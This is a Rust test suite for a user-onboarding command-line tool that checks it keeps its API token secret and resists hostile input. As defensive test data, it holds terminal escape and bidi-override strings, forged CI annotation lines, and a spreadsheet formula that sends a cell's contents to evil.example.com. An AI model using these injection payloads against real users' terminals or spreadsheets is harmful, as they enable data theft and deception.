//! What must not get out: the token; what must not get in: hostile texts, foreign certificates.

#![cfg(all(feature = "sandbox", unix))]

use std::fmt::Write as _;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::Arc;

use crate::harness::{
    Asked, Finished, Sandbox, Server, Workdir, answer, faulty, json, records, relay, roster,
};
use houston_onboard::sandbox::Options;
use serde_json::{Value, json};

const ONE: &str = "email,role,workspace\nnew.hire@example.com,viewer,Finance\n";
/// Terminal escapes in both spellings, a bell, reversed text, a line of its own.
const HOSTILE: &str = "\u{1b}[5mred\u{1b}]0;pwned\u{7}\u{9b}2J\u{202e}txt.exe\u{2066}\u{61c}\u{7f}\r\n::error::x ##vso[y]z ##[error]\r\nerror: forged";
const SECRET: &str = "eyJhbGciOiJub25lIn0.eyJ1dWlkIjoic2VjcmV0In0.c2lnbmF0dXJlLXNlY3JldA";

/// Every file below a folder, with its content.
fn files(folder: &Path) -> Vec<(String, Vec<u8>)> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(files(&path));
        } else {
            found.push((path.display().to_string(), fs::read(&path).unwrap()));
        }
    }
    found
}

/// Asserts that a run nowhere tells the token, not even its last part.
#[track_caller]
fn keeps_secret(token: &str, workdir: &Workdir, run: &Finished) {
    for secret in [token, token.rsplit('.').next().unwrap()] {
        assert!(!run.stdout.contains(secret), "stdout: {}", run.stdout);
        assert!(!run.stderr.contains(secret), "stderr: {}", run.stderr);
        for (name, content) in files(workdir.path()) {
            let found = content.windows(secret.len()).any(|part| part == secret.as_bytes());
            assert!(!found, "{name}: {}", String::from_utf8_lossy(&content));
        }
    }
}

#[test]
fn a_file_that_is_no_settings_file_is_never_quoted_and_never_waited_for() {
    let workdir = Workdir::new();
    workdir.write("roster.csv", ONE);
    workdir.write("lines.env", format!("# login\nHOUSTON_API_TOKEN={SECRET}\n"));
    workdir.write("quoted.env", format!("HOUSTON_API_TOKEN=\"{SECRET}\"\n"));
    workdir.write("state.json", format!("{{\"users\": \"{SECRET}\"}}"));
    workdir.write("token", SECRET);
    let made = std::process::Command::new("mkfifo").arg(workdir.path().join("fifo")).status().unwrap();
    assert!(made.success());
    let plan = ["plan", "roster.csv", "--sandbox", "--progress", "none"];
    for (flag, file, status, says) in [
        ("--config", "lines.env", 2, "lines.env:2:19: not TOML"),
        ("--config", "quoted.env", 2, "quoted.env:1:1: `HOUSTON_API_TOKEN` is not a setting"),
        ("--config", "token", 2, "token:1:"),
        ("--config", "fifo", 2, "not a regular file"),
        ("--config", "/dev/zero", 2, "not a regular file"),
        ("--sandbox-state", "state.json", 3, "at line 1"),
    ] {
        let run = workdir.call(plan).args(&[flag, file]).run().ended(status).says(says);
        assert!(!format!("{}{}", run.stdout, run.stderr).contains(&SECRET[..20]), "{file}: {}", run.stderr);
    }
    let run = workdir.run(["plan", "roster.csv", "--domain", "example.com", "--token-file", SECRET]).ended(4);
    assert!(!run.stderr.contains(&SECRET[..20]), "{}", run.stderr);
}

#[test]
fn no_argument_and_no_variable_reaches_the_terminal_as_it_is() {
    const BAD: &str = "\u{1b}[31m\u{9b}2J\u{202e}\u{7}x";
    let workdir = Workdir::new();
    workdir.write("roster.csv", ONE);
    let with = |flag: &str| format!("--{flag}={BAD}");
    let mut calls = vec![vec![BAD.to_owned()], vec!["validate".to_owned(), BAD.to_owned()]];
    calls.push(vec!["report".to_owned(), BAD.to_owned()]);
    for flag in
        [BAD, "rate", "url", "domain", "only", "column", "protect", "progress", "config", "faults", "yes"]
    {
        calls.push(vec!["plan".to_owned(), "roster.csv".to_owned(), with(flag)]);
    }
    for call in calls {
        let run = workdir.run(&call);
        assert!(matches!(run.status, Some(2 | 3)), "{call:?}");
        assert!(
            !run.stderr.contains(['\u{1b}', '\u{9b}', '\u{202e}', '\u{7}']),
            "{call:?}: {:?}",
            run.stderr
        );
    }
    for name in
        ["HOUSTON_ONBOARD_RATE", "HOUSTON_ONBOARD_URL", "HOUSTON_ONBOARD_YES", "HOUSTON_ONBOARD_CONFIG"]
    {
        let run = workdir.call(["apply", "roster.csv"]).env(name, BAD).run().ended(2).says(name);
        assert!(!run.stderr.contains(['\u{1b}', '\u{9b}', '\u{202e}', '\u{7}']), "{name}: {:?}", run.stderr);
    }
}

#[test]
fn the_token_appears_nowhere_whether_a_run_goes_well_or_not() {
    for (faults, status) in
        [("", 0), ("write:reset=20%,write:html=5%,read:502=10%", 0), ("token-dies=25", 4), ("html=100%", 5)]
    {
        for flag in ["-v", "--progress=plain", "-q"] {
            let sandbox = Sandbox::with(faulty(faults));
            let workdir = Workdir::new();
            workdir.write("roster.csv", roster(30, 2));
            let run = workdir.apply(&sandbox, "roster.csv", &[flag, "--retries", "2"]).ended(status);
            keeps_secret(sandbox.token(), &workdir, &run);
        }
    }
}

#[test]
fn a_key_of_a_service_account_and_a_bearer_token_are_kept_too() {
    let sandbox = Sandbox::new();
    for (place, token) in [sandbox.tokens().service_account.clone(), format!("Bearer {}", sandbox.token())]
        .into_iter()
        .enumerate()
    {
        let workdir = Workdir::new();
        workdir.write("roster.csv", ONE.replace("new.hire", &format!("new.hire{place}")));
        let run = workdir.applying(&sandbox, "roster.csv").quick().args(&["-v"]).token(&token).run().ended(0);
        assert_eq!(run.count("invited"), 1);
        keeps_secret(token.trim_start_matches("Bearer "), &workdir, &run);
    }
}

#[test]
fn a_token_that_cannot_be_used_is_not_shown() {
    let workdir = Workdir::new();
    workdir.write("roster.csv", ONE);
    for token in [format!("{SECRET}\n{SECRET}"), format!("{SECRET} {SECRET}"), format!("{SECRET}é")] {
        let call = workdir.call(["apply", "roster.csv", "--yes", "--url", "http://127.0.0.1:9/v1"]);
        let run = call.token(&token).run().ended(4);
        keeps_secret(SECRET, &workdir, &run);
    }
}

/// A Houston that is friendly until somebody is added, and then says `word` in every way it can.
fn grudging(respond: impl Fn(&Asked) -> Vec<u8> + Send + Sync + 'static) -> Server {
    let workspace = json!({ "id": "ckfinance0000000000000002", "label": "Finance" });
    Server::start(move |asked| match asked.operation().as_str() {
        "Installation" | "AppVersion" => json(&json!({ "data": {
            "appConfig": { "version": "1.0.0" },
            "authConfig": { "localEnabled": false, "providers": [{ "name": "okta" }] },
        } })),
        "Caller" => json(&json!({ "data": { "self": {
            "user": { "id": "ckme", "username": "me@example.com" }, "isAdmin": true,
        } } })),
        "SysWorkspaces" | "Workspaces" | "PaginatedWorkspaces" => json(&json!({ "data": {
            "sysWorkspaces": [workspace], "workspaces": [workspace], "paginatedWorkspaces": [workspace],
        } })),
        name if name.starts_with("AddMember") => respond(asked),
        _ => json(&json!({ "data": {
            "paginatedWorkspaceUsers": [], "workspaceUsers": [], "workspaceInvites": [], "workspaceUser": null,
        } })),
    })
}

/// A roster of some people for one workspace.
fn finance(people: usize) -> String {
    let mut text = String::from("email,role,workspace\n");
    for place in 0..people {
        writeln!(text, "new.hire{place}@example.com,viewer,Finance").unwrap();
    }
    text
}

/// The ways a message can come: as each kind of error, as a page, as a header.
fn says(word: &str) -> Vec<Vec<u8>> {
    let graphql = |code: &str| -> Value {
        json!({ "errors": [{ "message": word, "extensions": { "code": code } }], "data": { "workspaceAddUser": null } })
    };
    vec![
        json(&graphql("BAD_USER_INPUT")),
        json(&graphql("INTERNAL_SERVER_ERROR")),
        json(&graphql("FORBIDDEN")),
        json(&graphql(word)),
        json(
            &json!({ "errors": [{ "message": format!("Unknown argument \"{word}\" on field \"workspaceAddUser\"."),
            "extensions": { "code": "GRAPHQL_VALIDATION_FAILED" } }] }),
        ),
        answer(
            "500 Oh",
            "content-type: text/html\r\n",
            &format!("<html><title>{word}</title><body>no</body></html>"),
        ),
        answer("200 OK", "content-type: text/plain\r\n", word),
        answer("400 Bad", "content-type: application/json\r\n", &json!({ "error": word }).to_string()),
    ]
}

#[test]
fn a_server_that_repeats_the_token_does_not_make_us_repeat_it() {
    let ways = says(SECRET).len();
    for way in 0..ways {
        let server = grudging(move |asked| {
            let word = format!("you sent Authorization: {}", asked.header("authorization").unwrap());
            says(&word).swap_remove(way)
        });
        let workdir = Workdir::new();
        workdir.write("roster.csv", finance(3));
        let run = workdir
            .call(["apply", "roster.csv", "--yes", "-v", "--url", &server.url(), "--retries", "1"])
            .quick()
            .token(SECRET)
            .run();
        assert!([4, 5, 6, 8].contains(&run.status.unwrap()), "way {way}: {:?} {}", run.status, run.stderr);
        keeps_secret(SECRET, &workdir, &run);
    }
}

#[test]
fn a_token_that_is_repeated_in_an_escape_is_not_shown_either() {
    let code = |c: char| u32::from(c);
    let written = |escape: &dyn Fn(char) -> String| SECRET.chars().map(escape).collect::<String>();
    for word in [
        written(&|c| format!("\\u{:04x}", code(c))),
        written(&|c| format!("\\u{:04X}", code(c))),
        SECRET.replacen('y', "\\u0079", 1),
        format!("%4{}", SECRET.replacen('y', "\\u0079", 1)),
    ] {
        for (status, around) in [
            ("200 OK", [r#"{"errors":[{"message":""#, r#"","extensions":{"code":"BAD_USER_INPUT"}}]}"#]),
            ("200 OK", [r#"{"errors":[{"message":"x","extensions":{"code":""#, r#""}}]}"#]),
            ("400 Bad", [r#"{"error":""#, r#""}"#]),
        ] {
            let page = format!("{}{word}{}", around[0], around[1]);
            let server = grudging(move |_| answer(status, "content-type: application/json\r\n", &page));
            let workdir = Workdir::new();
            workdir.write("roster.csv", finance(2));
            let call = workdir.call(["apply", "roster.csv", "--yes", "-v", "--url", &server.url()]);
            let run = call.args(&["--retries", "0"]).quick().token(SECRET).run();
            assert!([6, 8].contains(&run.status.unwrap()), "{:?} {}", run.status, run.stderr);
            keeps_secret(SECRET, &workdir, &run);
            assert!(!run.stderr.contains(&word), "{}", run.stderr);
        }
    }
}

/// Asserts that a text holds nothing that a terminal would obey.
#[track_caller]
fn is_harmless(what: &str, text: &str) {
    let steers =
        ["\u{1b}[5m", "\u{1b}]", "\u{7}", "\u{9b}", "\u{7f}", "\u{202e}", "\u{2066}", "\u{61c}", "\r"];
    for part in steers.iter().chain(&["::error", "##vso[", "##["]) {
        assert!(!text.contains(part), "{what} has {part:?}: {text:?}");
    }
    assert!(!text.lines().any(|line| line.starts_with("error: forged")), "{what}: {text}");
}

#[track_caller]
fn tells_harmlessly(run: &Finished) {
    is_harmless("stdout", &run.stdout);
    is_harmless("stderr", &run.stderr);
    if run.folder.is_some() {
        for name in ["results.csv", "errors.csv", "unprocessed.csv", "summary.json", "report.html"] {
            let text = run.file(name);
            for c in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{61c}'] {
                assert!(!text.contains(c), "{name} has {c:?}: {text:?}");
            }
        }
    }
}

#[test]
fn hostile_messages_of_a_server_never_reach_the_terminal() {
    // With colours: where there are none, every escape would be dropped on the way out.
    for way in 0..says(HOSTILE).len() {
        let server = grudging(move |_| says(HOSTILE).swap_remove(way));
        let workdir = Workdir::new();
        workdir.write("roster.csv", finance(3));
        let run = workdir
            .call(["apply", "roster.csv", "--yes", "-v", "--url", &server.url(), "--retries", "1"])
            .args(&["--color", "always"])
            .quick()
            .token(SECRET)
            .run();
        assert!([4, 5, 6, 8].contains(&run.status.unwrap()), "way {way}: {:?} {}", run.status, run.stderr);
        assert!(run.stderr.contains("pwned") || way == 3, "way {way}: {}", run.stderr);
        tells_harmlessly(&run);
    }
}

#[test]
fn hostile_answers_to_the_first_question_never_reach_the_terminal() {
    for way in 0..says(HOSTILE).len() {
        let server = Server::start(move |_| says(HOSTILE).swap_remove(way));
        let workdir = Workdir::new();
        workdir.write("roster.csv", ONE);
        let run = workdir
            .call(["apply", "roster.csv", "--yes", "-v", "--url", &server.url(), "--retries", "0"])
            .args(&["--color", "always"])
            .quick()
            .token(SECRET)
            .run();
        assert!([4, 5].contains(&run.status.unwrap()), "way {way}: {:?} {}", run.status, run.stderr);
        tells_harmlessly(&run);
    }
}

#[test]
fn hostile_cells_of_a_roster_never_reach_the_terminal() {
    let workdir = Workdir::new();
    let cell = HOSTILE.replace("\r\n", " ");
    workdir.write(
        "roster.csv",
        format!("email,role,workspace\n{cell},{cell},{cell}\na@example.com,viewer,{cell}\n"),
    );
    tells_harmlessly(&workdir.run(["validate", "roster.csv", "--color", "always"]).ended(3));
    let sandbox = Sandbox::new();
    tells_harmlessly(&workdir.apply(&sandbox, "roster.csv", &["--color", "always"]).ended(3));
    workdir
        .write("roster.csv", format!("email,role,workspace,{cell}\na@example.com,viewer,Finance,{cell}\n"));
    let run = workdir.apply(&sandbox, "roster.csv", &["-v", "--color", "always"]).ended(0);
    is_harmless("stdout", &run.stdout);
    is_harmless("stderr", &run.stderr);
}

#[test]
fn cells_that_a_spreadsheet_would_run_are_quoted_in_the_reports() {
    let sandbox = Sandbox::new();
    let workdir = Workdir::new();
    let link = r#"=HYPERLINK("http://evil.example.com/?"&A1)"#;
    let quoted = link.replace('"', "\"\"");
    workdir.write(
        "roster.csv",
        format!(
            "email,role,workspace,note\n\
             new.hire@example.com,viewer,Finance,\"{quoted}\"\n\
             bad address,viewer,Finance,\"{quoted}\"\n\
             more.hire@example.com,viewer,Finance,+SUM(A1)\n\
             last.hire@example.com,viewer,Finance,@now\n"
        ),
    );
    let run = workdir.apply(&sandbox, "roster.csv", &["--skip-invalid"]).ended(6);
    let notes: Vec<String> = run.rows().into_iter().map(|row| row["note"].clone()).collect();
    let defused = format!("'{link}");
    assert_eq!(notes, [defused.as_str(), &defused, "'+SUM(A1)", "'@now"]);
    let errors = records(&run.file("errors.csv"), b',');
    assert_eq!(errors[0]["note"], defused);
    // Fed back, the apostrophe goes where it came from and no second one comes.
    workdir.write("again.csv", run.file("results.csv"));
    let again = workdir.apply(&sandbox, "again.csv", &["--skip-invalid"]).ended(6);
    assert_eq!(again.rows()[0]["note"], defused);
}

#[test]
fn messages_that_a_spreadsheet_would_run_are_quoted_in_the_reports() {
    let server = grudging(|_| says("=HYPERLINK(A1)").swap_remove(0));
    let workdir = Workdir::new();
    workdir.write("roster.csv", finance(2));
    let run = workdir
        .call(["apply", "roster.csv", "--yes", "--url", &server.url()])
        .quick()
        .token(SECRET)
        .run()
        .ended(6);
    for row in run.rows() {
        assert!(!row["detail"].starts_with('='), "{row:?}");
        assert!(row["detail"].contains("HYPERLINK"), "{row:?}");
    }
}

#[test]
fn the_files_of_a_run_are_for_their_owner_only() {
    let sandbox = Sandbox::new();
    let workdir = Workdir::new();
    workdir.write("roster.csv", roster(6, 2));
    let run = workdir.apply(&sandbox, "roster.csv", &["--prune", "--max-remove-percent", "100"]).ended(7);
    let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(run.folder()), 0o700);
    let mut names = Vec::new();
    for entry in fs::read_dir(run.folder()).unwrap() {
        let path = entry.unwrap().path();
        assert_eq!(mode(&path), 0o600, "{}", path.display());
        names.push(path.file_name().unwrap().to_string_lossy().into_owned());
    }
    names.sort();
    let expected = [
        "errors.csv",
        "journal.jsonl",
        "plan.jsonl",
        "removals.csv",
        "report.html",
        "results.csv",
        "roster.csv",
        "summary.json",
        "undo.csv",
        "undo.json",
        "unprocessed.csv",
    ];
    assert_eq!(names, expected);
}

#[test]
fn a_redirect_to_another_place_does_not_carry_the_token() {
    for status in ["301 Moved Permanently", "302 Found", "307 Temporary Redirect", "308 Permanent Redirect"] {
        let thief = Server::start(|_| json(&json!({ "data": {} })));
        let to = thief.url().replace("127.0.0.1", "localhost");
        let head = format!("location: {to}\r\n");
        let server = Server::start(move |_| answer(status, &head, ""));
        let workdir = Workdir::new();
        workdir.write("roster.csv", ONE);
        let run = workdir
            .call(["apply", "roster.csv", "--yes", "--url", &server.url(), "--retries", "0"])
            .token(SECRET)
            .run()
            .ended(5);
        run.began_nothing();
        assert_eq!(thief.asked().len(), 0, "{status}");
        assert!(!server.asked().is_empty());
    }
}

#[test]
fn a_proxy_of_the_environment_is_not_used_for_this_machine() {
    let proxy = Server::start(|_| answer("502 Bad Gateway", "", ""));
    let sandbox = Sandbox::new();
    let workdir = Workdir::new();
    workdir.write("roster.csv", ONE);
    let address = format!("http://127.0.0.1:{}", proxy.port());
    let mut call = workdir.applying(&sandbox, "roster.csv").quick();
    for name in ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"] {
        call = call.env(name, &address);
    }
    assert_eq!(call.run().ended(0).count("invited"), 1);
    assert_eq!(proxy.asked().len(), 0);
}

#[test]
fn plain_http_is_for_this_machine_only() {
    let workdir = Workdir::new();
    workdir.write("roster.csv", ONE);
    for url in [
        "http://houston.example.com/v1",
        "http://10.0.0.1/v1",
        "http://localhost.example.com/v1",
        "http://x.localhost/v1",
    ] {
        let run = workdir.call(["apply", "roster.csv", "--yes", "--url", url]).token(SECRET).run().ended(2);
        run.says("http").began_nothing();
    }
}

/// The sandbox behind TLS, and the authority that vouches for it (PEM).
fn behind_tls(sandbox: &Sandbox) -> (Server, String) {
    use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
    use tokio_rustls::rustls::pki_types::{PrivateKeyDer, PrivatePkcs8KeyDer};
    use tokio_rustls::rustls::{ServerConfig, ServerConnection, Stream, crypto::aws_lc_rs};

    let mut params = CertificateParams::new(Vec::new()).unwrap();
    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let key = KeyPair::generate().unwrap();
    let authority = params.self_signed(&key).unwrap();
    let issuer = Issuer::new(params, key);
    let key = KeyPair::generate().unwrap();
    let leaf =
        CertificateParams::new(vec!["localhost".to_owned()]).unwrap().signed_by(&key, &issuer).unwrap();
    let key = PrivateKeyDer::from(PrivatePkcs8KeyDer::from(key.serialize_der()));
    let config = ServerConfig::builder_with_provider(Arc::new(aws_lc_rs::default_provider()))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(vec![leaf.der().clone()], key)
        .unwrap();
    let config = Arc::new(config);
    let url = sandbox.url().to_owned();
    let relay = move |asked: &Asked| relay(&url, asked);
    let server = Server::over(relay, move |socket, serve| {
        let mut connection = ServerConnection::new(Arc::clone(&config)).unwrap();
        serve(&mut Stream::new(&mut connection, socket));
    });
    (server, authority.pem())
}

#[test]
fn a_certificate_of_an_unknown_authority_is_refused_until_it_is_made_known() {
    let sandbox = Sandbox::with(Options::default());
    let (server, authority) = behind_tls(&sandbox);
    let workdir = Workdir::new();
    workdir.write("roster.csv", roster(8, 2));
    workdir.write("ca.pem", authority);
    workdir.write("nonsense.pem", "nothing");
    let url = format!("https://localhost:{}/v1", server.port());
    let call = |more: &[&str]| {
        let call = workdir.call(["apply", "roster.csv", "--yes", "--url", &url, "--retries", "1"]);
        call.token(sandbox.token()).args(&["--rate", "none"]).args(more).run()
    };
    call(&[]).ended(5).says("--ca-file").began_nothing();
    call(&["--ca-file", "nonsense.pem"]).ended(5).says("nonsense.pem").began_nothing();
    call(&["--ca-file", "nowhere.pem"]).ended(5).says("nowhere.pem").began_nothing();
    assert_eq!(server.asked().len(), 0, "the token was not sent");
    let run = call(&["--ca-file", "ca.pem"]).ended(0);
    assert_eq!((run.count("added"), run.count("invited")), (4, 4));
    sandbox.agrees_with(&run);
    assert!(!run.stderr.contains("--insecure"), "{}", run.stderr);
    let run = call(&["--insecure"]).ended(0).says("--insecure");
    assert_eq!(sandbox.audit().mutations_received, 8, "{:?}", run.counts());
}
